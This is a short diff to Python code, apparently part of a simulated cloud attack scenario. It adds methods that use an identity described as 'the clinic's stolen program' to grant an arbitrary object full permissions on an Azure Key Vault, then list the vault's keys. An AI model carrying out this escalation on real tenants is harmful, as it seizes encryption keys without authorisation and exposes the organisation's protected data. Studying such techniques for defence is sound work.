@@ -104,6 +104,17 @@ class Hand:
         return made.lower()
 
 
+    def vault_entry(self, who: str) -> None:
+        """An entry of the clinic's vault for somebody."""
+        entry = {"objectId": who, "tenantId": self.cloud.entra.directory.tenant, "permissions": {"keys": ["all"]}}
+        body = {"properties": {"accessPolicies": [entry]}}
+        self("PUT", f"https://management.azure.com{names.VAULT_ID}/accessPolicies/add?api-version=2023-07-01", body)
+
+    def unwrap(self) -> None:
+        """Has a look at the keys of the clinic's vault."""
+        self("GET", f"{names.VAULT_URL}/keys?api-version=7.4")
+
+
 def empowered(cloud: Cloud) -> Hand:
     """The clinic's stolen program, with more rights than anybody has looked at."""
     program = cloud.entra.directory.principals[names.EXPORT_ID]
